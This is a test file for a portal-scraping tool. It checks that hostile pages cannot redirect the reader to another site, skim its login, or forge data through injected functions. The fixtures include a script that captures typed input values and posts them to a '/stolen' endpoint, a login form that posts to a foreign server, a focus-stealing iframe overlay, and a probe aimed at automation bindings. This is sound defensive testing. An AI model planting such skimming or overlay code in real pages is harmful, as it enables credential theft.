/** Pages that want the password, or the rentals, for somebody else. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { page, rowsFrom, serve, status, table, type Answer, type HandMadePortal } from './hand-made-portal.ts';
import { shortPortalTimeouts } from './harness.ts';
import { useReading } from './reading.ts';

const reading = useReading();
let foreign: HandMadePortal;
let portal: HandMadePortal | undefined;

const stolen: string[] = [];
const form = `<div class="form"><input type="text" class="inputBox" placeholder="Username">
  <input type="password" class="inputBox" placeholder="Password"><button type="button" class="loginButton">Log in</button></div>`;
/** Sends whatever is typed or clicked, wherever the focus is. */
const steal = `for (const kind of ['input', 'keydown', 'click', 'change'])
  addEventListener(kind, () => fetch('/stolen', { method: 'POST', body: kind + JSON.stringify([...document.querySelectorAll('input')].map((input) => input.value)) }), true);`;

beforeEach(async () => {
  stolen.length = 0;
  foreign = await serve({ '/': page(form), '/s/login': page(form) });
});
afterEach(async () => {
  await foreign.close();
  await portal?.close();
});

async function misread(pages: Record<string, Answer>, hasSession = false, timeouts = shortPortalTimeouts) {
  portal = await serve(pages);
  return reading.misread(portal.url, { hasSession, timeouts });
}

describe('a main frame that is led elsewhere', () => {
  const ways: [string, (to: string) => Record<string, Answer>][] = [
    ['by a redirect', (to) => ({ '/s/login': { status: 302, headers: { location: `${to}/s/login` } } })],
    ['by a redirect that keeps the method', (to) => ({ '/s/login': { status: 307, headers: { location: to } } })],
    [
      'by the second of two redirects',
      (to) => ({
        '/s/login': { status: 302, headers: { location: '/s/door' } },
        '/s/door': { status: 301, headers: { location: `${to}/s/login` } },
      }),
    ],
    [
      'to another name of the same machine',
      (to) => ({ '/s/login': { status: 302, headers: { location: to.replace('127.0.0.1', 'localhost') } } }),
    ],
    ['by the page itself', (to) => ({ '/s/login': page('', `location.replace('${to}/s/login')`) })],
    ['by a refresh', (to) => ({ '/s/login': { headers: { refresh: `0;url=${to}/s/login` }, body: '<p>…</p>' } })],
    [
      'once the form is there',
      (to) => ({
        '/s/login': page(
          form,
          `new MutationObserver(() => 0); $('.form').addEventListener('input', () => location.assign('${to}/'))`,
        ),
      }),
    ],
    [
      'by the form, which would bring the password along',
      (to) => ({
        '/s/login': page(
          form
            .replaceAll('div', 'form')
            .replace('<form', `<form method="post" action="${to}/stolen"`)
            .replace('type="button"', 'type="submit"'),
        ),
      }),
    ],
    [
      'by the answer to the sign-in',
      (to) => ({
        '/s/login': page(
          form,
          `$('.loginButton').addEventListener('click', async () => {
          await fetch('/s/sfsites/aura', { method: 'POST', body: $('[type=password]').value }); location.assign('${to}/s/'); })`,
        ),
        '/s/sfsites/aura': '{}',
      }),
    ],
  ];
  it.each(ways)('%s ends as a changed portal, and gets nothing', async (_, pages) => {
    const end = await misread(pages(foreign.url));
    expect(end.kind).toBe('portal_changed');
    expect(end.message).toBe('the portal leads to another site');
    expect(end.operatorNote).toMatch(
      new RegExp(`^the other site is http://(127.0.0.1|localhost):${new URL(foreign.url).port}$`),
    );
    expect(foreign.asked).toEqual([]);
  });

  it('is noticed on the list as well', async () => {
    const list = page(
      status('50+ items') + table(rowsFrom(0, 50)),
      `setTimeout(() => location.assign('${foreign.url}'), 200)`,
    );
    expect((await misread({ '/s/booking-item': list }, true)).kind).toBe('portal_changed');
    expect(foreign.asked).toEqual([]);
  });

  it('is noticed where the link to the list leads there', async () => {
    const invalid = page(`<a href="/s/go">My Rentals</a><h1>Invalid Page</h1>`);
    const go = { status: 302, headers: { location: foreign.url } };
    expect((await misread({ '/s/booking-item': invalid, '/s/go': go }, true)).kind).toBe('portal_changed');
    expect(foreign.asked).toEqual([]);
  });
});

describe('frames', () => {
  /** A frame of another origin: the portal itself sends it, for no other one would be let in here. */
  const frame = (style = '') => `<iframe sandbox="allow-scripts" src="/frame" style="${style}"></iframe>`;
  const over = frame('position:fixed;inset:0;width:100%;height:100%;z-index:9');
  const take: Answer = (_request, body) => {
    stolen.push(body);
    return '';
  };

  it('with the form get nothing', async () => {
    const end = await misread({ '/s/login': page(over), '/frame': page(form, steal), '/stolen': take });
    expect(portal!.asked).toContain('/frame');
    expect(end.kind).toBe('portal_changed');
    expect(stolen).toEqual([]);
  });

  it('over the form, and that take the focus away, get nothing', async () => {
    const signIn = page(
      form + over,
      `$('.loginButton').addEventListener('click', async () => {
        await fetch('/s/sfsites/aura', { method: 'POST', body: $('[type=password]').value });
        location.assign('/s/'); })`,
    );
    portal = await serve({
      '/s/login': signIn,
      '/frame': page(form, `${steal} setInterval(() => $('[type=password]').focus(), 5)`),
      '/stolen': take,
      '/s/sfsites/aura': { headers: { 'set-cookie': 'sid=good; Path=/' }, body: '{}' },
      '/s/': page('<a href="/s/booking-item">My Rentals</a>'),
      '/s/booking-item': page(status('2 items') + table(rowsFrom(0, 2))),
    });
    expect((await reading.read(portal.url)).rentals).toHaveLength(2);
    expect(portal.asked).toContain('/frame');
    expect(stolen).toEqual([]);
  });

  /** Calls, with an invented list, every function that a page without us would not have. */
  const invent = `const clean = document.createElement('iframe'); document.documentElement.append(clean);
    const usual = new Set(Object.getOwnPropertyNames(clean.contentWindow)); clean.remove();
    const row = { key: 'x', replaces: null, recordId: 'a0Y000000000000EVL', name: 'Invented', href: '', cells: {} };
    const list = { kind: 'list', document: 'x', columns: ${JSON.stringify(['Rental Name'])}, ambiguous: false, otherList: false,
      status: { count: 1, more: false }, reset: true, rows: [row] };
    const found = Object.getOwnPropertyNames(window).filter((name) => !usual.has(name) && !known.includes(name));
    const guesses = ['report', 'actions', 'gibneySyncSaw', '__playwright__binding__', '__pwInitScripts'];
    for (const name of [...found, ...guesses]) for (const value of [list, JSON.stringify(list)])
      try { window[name](value); } catch { /* there is no such function */ }`;
  const known = `const known = ['Aura', 'labels', 'clean', 'usual', 'row', 'list', 'found', 'guesses', 'known', 'rowsFrom', '$', 'recordId', 'textOf', 'headRow', 'row'];`;

  it('of another site, or of the portal, cannot speak for the page', async () => {
    const evil = `<!doctype html>${status('1 item')}${table(rowsFrom(90, 91))}<script>{ ${known} ${invent} }</script>`;
    const list = page(
      `${frame()}<iframe src="/frame"></iframe><main></main>`,
      `addEventListener('load', () => { $('main').innerHTML = ${JSON.stringify(status('2 items') + table(rowsFrom(0, 2)))}; });`,
    );
    portal = await serve({ '/s/booking-item': list, '/frame': evil });
    const { rentals, end } = await reading.read(portal.url, { hasSession: true });
    expect(portal.asked.filter((path) => path === '/frame')).toHaveLength(2);
    expect(rentals.map(({ name }) => name)).toEqual(['R-490000', 'R-490001']);
    expect(end).toEqual({ kind: 'complete' });
  });

  it("find nothing of ours in the page's world, nor does the page", async () => {
    const list = page(
      `${status('1 item')}${table(rowsFrom(0, 1))}`,
      `{ ${known} ${invent} $('a[data-recordid]').textContent = 'found ' + found.join(); }`,
    );
    portal = await serve({ '/s/booking-item': list });
    const { rentals } = await reading.read(portal.url, { hasSession: true });
    expect(rentals.map(({ name }) => name)).toEqual(['found']);
  });
});

describe('an answer without end', () => {
  const endings: [string, Record<string, Answer>][] = [
    ['a page', { '/s/booking-item': { body: `<!-- ${'x'.repeat(65_536)} -->`, endless: true } }],
    [
      'data',
      {
        '/s/booking-item': page('', `fetch('/s/sfsites/aura', { method: 'POST' }).then((answer) => answer.text())`),
        '/s/sfsites/aura': { body: 'x'.repeat(65_536), endless: true },
      },
    ],
  ];
  it.each(endings)('ends at its size: %s', async (_, pages) => {
    const end = await misread(pages, true, { ...shortPortalTimeouts, contentMs: 600_000 });
    expect(end).toMatchObject({ kind: 'portal_unavailable', message: 'the portal sent an answer without end' });
  });
});
